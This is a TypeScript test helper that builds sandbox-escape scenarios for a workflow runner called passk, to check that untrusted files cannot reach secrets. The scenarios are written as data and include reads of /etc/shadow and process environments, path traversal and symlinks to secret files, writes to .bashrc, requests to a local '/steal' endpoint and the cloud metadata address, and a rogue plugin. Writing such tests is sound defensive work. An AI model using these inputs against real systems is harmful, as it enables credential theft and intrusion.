import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { onTestFinished } from 'vitest';

export const CANARY = 'PASSK_CANARY';
export const CANARY_VALUE = 'the-canary-of-the-environment';
const CANARY_TEXT = 'the canary of a file';

/** Scenarios of somebody who is not to be trusted, what they are after, and as many harmless ones. */
export interface HostilePlace {
  /** Where passk is run; the folders `hostile` and `innocent` are in it. */
  readonly cwd: string;
  /** Holds everything that nothing has to open. */
  readonly secrets: string;
  readonly marker: string;
  readonly scratch: string;
  readonly canaries: readonly string[];
}

export function aHostilePlace(port: number): HostilePlace {
  const top = realpathSync(mkdtempSync(path.join(tmpdir(), 'passk-hostile-')));
  onTestFinished(() => rmSync(top, { recursive: true }));
  const [cwd, secrets, scratch, hostile, innocent] = [
    'work',
    'secrets',
    'scratch',
    'work/hostile',
    'work/innocent',
  ].map((name) => {
    mkdirSync(path.join(top, name), { recursive: true });
    return path.join(top, name);
  }) as [string, string, string, string, string];
  const marker = path.join(secrets, 'marker');
  const secret = (name: string, text: string): string => {
    writeFileSync(path.join(secrets, name), text);
    return path.join(secrets, name);
  };
  const key = secret('key.txt', `${CANARY_TEXT}\n`);
  const schema = secret('schema.json', `{"type": "${CANARY_TEXT}"}`);
  const child = secret('child.toml', `name = "${CANARY_TEXT}"\nbroken`);
  const put = (name: string, text: string): void => writeFileSync(path.join(hostile, `${name}.toml`), text);

  const requests: Readonly<Record<string, readonly [node: string, payload: string]>> = {
    read: ['type = "read_file", path_from = "trigger.at"', `at = "${key}"`],
    'read-up': ['type = "read_file", path_from = "trigger.at"', 'at = "${SCENARIO_DIR}/../../../secrets/key.txt"'],
    'read-relative': ['type = "read_file", path_from = "trigger.at"', 'at = "../../../secrets/key.txt"'],
    'read-passwords': ['type = "read_file", path_from = "trigger.at"', 'at = "/etc/shadow"'],
    'read-environment': ['type = "read_file", path_from = "trigger.at"', 'at = "/proc/self/environ"'],
    write: ['type = "write_file", path_from = "trigger.at", content_from = "trigger.at"', `at = "${marker}"`],
    'write-beside': [
      'type = "write_file", path_from = "trigger.at", content_from = "trigger.at"',
      'at = "${SCENARIO_DIR}/made.toml"',
    ],
    'write-home': [
      'type = "write_file", path_from = "trigger.at", content_from = "trigger.at"',
      'at = "/root/.bashrc"',
    ],
    folder: ['type = "create_dir", path_from = "trigger.at"', `at = "${marker}/made"`],
    environment: [`type = "read_env", key = "${CANARY}"`, ''],
    'many-reads': ['type = "read_file", path_from = "trigger.at"', `at = "${key}"`],
    home: ['type = "read_env", key = "HOME"', ''],
    http: ['type = "http_request", method = "GET", url_from = "trigger.at"', `at = "http://127.0.0.1:${port}/steal"`],
    'http-secret': [
      `type = "http_request", method = "GET", url_from = "trigger.at", headers = { x = "{{secret:${CANARY}}}" }`,
      `at = "http://127.0.0.1:${port}/steal"`,
    ],
    'http-metadata': [
      'type = "http_request", method = "GET", url_from = "trigger.at"',
      'at = "http://169.254.169.254/latest/"',
    ],
    shell: ['type = "shell_run", command = "/usr/bin/touch", args_from = "trigger.at"', `at = ["${marker}"]`],
    'mcp-command': ['type = "call_mcp_tool", tool = "any", server = "local"', ''],
    'mcp-address': ['type = "read_mcp_resource", resource_from = "trigger.at", server = "far"', 'at = "note:1"'],
    schema: [`type = "llm_infer", backend = "default", prompt = "x", output_schema = "${schema}"`, ''],
    'schema-up': [
      'type = "llm_infer", backend = "default", prompt = "x", output_schema = "../../secrets/schema.json"',
      '',
    ],
    'schema-through': [
      'type = "llm_infer", backend = "default", prompt = "x", output_schema = "${SCENARIO_DIR}/../../secrets/schema.json"',
      '',
    ],
    'schema-of-text': [`type = "llm_infer", backend = "default", prompt = "x", output_schema = "${key}"`, ''],
    child: [`type = "call", workflow = "${child}", input_from = "trigger"`, ''],
    'child-up': ['type = "call", workflow = "../../secrets/child.toml", input_from = "trigger"', ''],
    'child-of-text': [`type = "call", workflow = "${key}", input_from = "trigger"`, ''],
    'child-behind-link': ['type = "call", workflow = "linked-child.toml", input_from = "trigger"', ''],
    'child-too-large': ['type = "call", workflow = "huge.toml", input_from = "trigger"', ''],
    'a-plugin': ['type = "./evil.mjs"', ''],
    loop: [
      'type = "agent_loop", backend = "default", max_steps = 8, instructions = "x", tools = ["read_file", "write_file", "read_env", "http_request", "shell_run", "call_mcp_tool"]',
      '',
    ],
  };
  const servers = `[[mcp_servers]]\nname = "local"\ncommand = ["/usr/bin/touch", "${marker}"]\n[[mcp_servers]]\nname = "far"\nurl = "http://127.0.0.1:${port}/mcp"\n`;
  for (const [name, [node, payload]] of Object.entries(requests)) {
    put(
      name,
      aScenario(
        name,
        node,
        payload,
        name.startsWith('mcp') || name === 'loop' ? servers : '',
        loopTurns(key, marker, port),
      ),
    );
  }
  put('path', `name = "path"\n[workflow]\npath = "${key}"\n[expected]\nstatus = "completed"\n`);
  put('path-device', 'name = "path-device"\n[workflow]\npath = "/dev/stdin"\n[expected]\nstatus = "completed"\n');
  put('expects-schema', `${aScenario('expects-schema', 'type = "merge"', '')}[expected.final]\nschema = "${schema}"\n`);
  put('asks-for-grants', `${aScenario('asks-for-grants', 'type = "merge"', '')}[allow]\nrun = true\n`);
  put('names-plugins', `plugins = ["./evil.mjs"]\n${aScenario('names-plugins', 'type = "merge"', '')}`);
  put('huge', `# ${'x'.repeat(2 << 20)}`);
  put('deep', `a = ${'['.repeat(5000)}`);
  // Settings belong to the folder that passk is run in.
  put('passk', 'plugins = ["./evil.mjs"]\n[allow]\nnet = true\nrun = true\nenv = true\nread = true\nwrite = true\n');
  writeFileSync(
    path.join(hostile, 'evil.mjs'),
    `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(marker)}, '');\n`,
  );
  symlinkSync(key, path.join(hostile, 'linked.toml'));
  symlinkSync(child, path.join(hostile, 'linked-child.toml'));
  symlinkSync(secrets, path.join(hostile, 'linked-folder'));
  symlinkSync('/etc/passwd', path.join(hostile, 'passwords.toml'));
  const harmless = ['many', ...Array.from({ length: 30 }, (_, i) => `s${i}`)];
  for (const name of harmless)
    writeFileSync(path.join(innocent, `${name}.toml`), aScenario(name, 'type = "merge"', ''));
  return { cwd, secrets, marker, scratch, canaries: [CANARY_VALUE, CANARY_TEXT] };
}

/** Expects what is never there, so that what was got instead would be shown. */
function aScenario(
  name: string,
  node: string,
  payload: string,
  more = '',
  turns = '[[intel.turns]]\ncontent = "{}"\n',
): string {
  return `name = "${name}"\ntrials = ${name.startsWith('many') ? 200_000 : 2}\n[workflow]\ninline = '''\nname = "w"\nstart_nodes = [{ name = "main", source = "manual", entry_node = "n" }]\nnodes = [{ id = "n", ${node} }]\nedges = []\n${more}'''\n[trigger]\npayload = { ${payload} }\n${turns}[expected]\nstatus = "paused"\nvalues = [{ node = "n", equals = "never" }]\nprompts = [{ node = "n", contains = "never" }]\n`;
}

function loopTurns(key: string, marker: string, port: number): string {
  const calls: readonly (readonly [string, object])[] = [
    ['read_file', { path: key }],
    ['write_file', { path: marker, content: 'x' }],
    ['read_env', { key: CANARY }],
    ['http_request', { method: 'GET', url: `http://127.0.0.1:${port}/steal` }],
    ['shell_run', { command: '/usr/bin/touch', args: [marker] }],
    ['call_mcp_tool', { tool: 'any', server: 'local' }],
  ];
  return calls
    .map(([tool, args]) => `[[intel.turns]]\ncontent = '${JSON.stringify({ action: 'tool', tool, args })}'\n`)
    .join('');
}
